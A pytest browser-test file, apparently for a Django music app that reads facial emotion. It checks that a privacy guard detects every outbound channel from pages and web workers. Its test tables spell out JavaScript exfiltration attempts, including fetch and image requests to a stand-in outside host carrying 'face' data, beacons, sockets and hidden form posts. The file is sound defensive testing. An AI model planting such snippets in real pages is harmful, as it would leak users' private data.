"""A guard that never cries is no guard: everything that could carry something out is tried."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from django.urls import reverse
from playwright.sync_api import Page, Route

from music.content_security import WORKER_POLICY
from music.tests.browser.conftest import Visit
from music.tests.browser.leaving.guard import FIELDS, faults, leaks
from music.tests.browser.leaving.record import WATCH_ADDRESS, Arrival, Record, watched

pytestmark = pytest.mark.browser

ELSEWHERE = "//127.0.0.2:9"
LEAKING_WORKER = "/static/leaking-worker.js"
# For pages and workers alike. Most are refused, which must not silence the guard.
EVERYWHERE = {
    "a picture posted to the site": "fetch('/', {method: 'POST', body: new Blob([bytes])})",
    "a text posted to the site": "fetch('/emotion/frame/', {method: 'POST', body: 'face'})",
    "a request to another site": f"fetch('http:{ELSEWHERE}/')",
    "the same without an answer": f"fetch('http:{ELSEWHERE}/', {{mode: 'no-cors'}})",
    "numbers in a query": "fetch('/static/js/home.js?face=0123')",
    "numbers in a path": "fetch('/0/1/2/3')",
    "numbers in a header": "fetch('/', {headers: {'X-Face': 'x'.repeat(4000)}})",
    "an odd method": "fetch('/', {method: 'PUT'})",
    "an XMLHttpRequest": "r = new XMLHttpRequest(); r.open('POST', '/'); r.send('face')",
    "a web socket": "new WebSocket(`ws://${location.host}/`)",
    "a web transport": "new WebTransport(`https://${location.host}/`)",
    "an event source": "new EventSource('/')",
}
IN_PAGES = {
    "a beacon": "navigator.sendBeacon('/', 'face')",
    "a beacon of bytes": "navigator.sendBeacon('/', new Blob([bytes]))",
    "a peer connection": "new RTCPeerConnection()",
    "a picture of another site": f"new Image().src = 'http:{ELSEWHERE}/?face=0123'",
    "a picture's query": "new Image().src = '/static/x.png?face=0123'",
    "a form": "form = document.createElement('form'); form.method = 'post';"
    " form.action = '/privacy/'; form.target = '_blank';"
    " form.append(Object.assign(document.createElement('textarea'), {name: 'face', value: 'x'}));"
    " document.body.append(form); form.submit()",
    "a shared worker": "new SharedWorker('/static/js/home.js')",
    "a service worker": "navigator.serviceWorker.register('/static/js/home.js')",
}
# The watch reports a moment after the deed.
PATIENCE_MS = 200
TRIES = 15


def attempt(code: str) -> str:
    return f"const bytes = new Uint8Array(5000); var r, form; try {{ {code} }} catch {{}}"


def is_noticed(page: Page, record: Record) -> bool:
    for _ in range(TRIES):
        if leaks(record):
            return True
        page.wait_for_timeout(PATIENCE_MS)
    return False


def test_a_page_that_is_only_looked_at_leaks_nothing(visit: Callable[..., Visit]) -> None:
    one = visit()
    with watched(one) as record:
        one.open().wait_for_load_state("networkidle")
        assert record.departures
        assert record.arrivals
        assert leaks(record) == []


def test_every_leak_of_a_page_is_noticed(visit: Callable[..., Visit]) -> None:
    one = visit()
    with watched(one) as record:
        page = one.open()
        unnoticed = []
        for what, code in {**EVERYWHERE, **IN_PAGES}.items():
            record.clear()
            page.evaluate(f"() => {{ {attempt(code)} }}")
            if not is_noticed(page, record):
                unnoticed.append(what)
    assert unnoticed == []


def leaking_worker(code: str) -> Callable[[Route], None]:
    def serve(route: Route) -> None:
        route.fulfill(
            body=f'import "{WATCH_ADDRESS}"; {attempt(code)}',
            headers={
                "content-type": "text/javascript",
                "content-security-policy": WORKER_POLICY,
            },
        )

    return serve


def test_every_leak_of_a_worker_is_noticed(visit: Callable[..., Visit]) -> None:
    one = visit()
    with watched(one) as record:
        page = one.open()
        unnoticed = []
        for what, code in EVERYWHERE.items():
            page.context.unroute(f"**{LEAKING_WORKER}")
            page.context.route(f"**{LEAKING_WORKER}", leaking_worker(code))
            record.clear()
            page.evaluate("address => { new Worker(address, {type: 'module'}); }", LEAKING_WORKER)
            if not is_noticed(page, record):
                unnoticed.append(what)
    assert unnoticed == []


MESSAGE = (
    b"csrfmiddlewaretoken=x&probabilities=%5B0.1%2C0%2C0.0512%2C0.8488%2C0%2C0%2C0%5D"
    b"&origin=camera&goal=match&engine=default&slowest=&fastest="
)


def sent(body: bytes, path: str = "") -> Record:
    address = path or reverse("recommendations:create")
    return Record("http://127.0.0.1", [Arrival("POST", address, "", body, 500)])


def test_the_one_message_may_leave_once_and_unchanged() -> None:
    assert leaks(sent(MESSAGE), message=MESSAGE) == []
    assert leaks(sent(MESSAGE)) != []
    assert leaks(sent(MESSAGE + b" "), message=MESSAGE) != []
    assert leaks(sent(MESSAGE, "/privacy/"), message=MESSAGE) != []
    twice = sent(MESSAGE)
    twice.arrivals *= 2
    assert leaks(twice, message=MESSAGE) != []


@pytest.mark.django_db
def test_a_message_as_the_page_promises_has_no_faults() -> None:
    assert faults(MESSAGE) == []
    assert len(FIELDS) == 13


@pytest.mark.django_db
@pytest.mark.parametrize(
    "message",
    [
        MESSAGE + b"&face=x",
        MESSAGE + b"&goal=" + b"x" * 50,
        MESSAGE + b"&again=" + b"x" * 3000,
        MESSAGE.replace(b"goal=match", b"goal=0123456789"),
        MESSAGE.replace(b"0.8488", b"0.84881"),
        MESSAGE.replace(b"0.8488%2C", b""),
        MESSAGE.replace(b"0.0512", b"%22face%22"),
    ],
)
def test_a_message_that_carries_more_has_faults(message: bytes) -> None:
    assert faults(message) != []
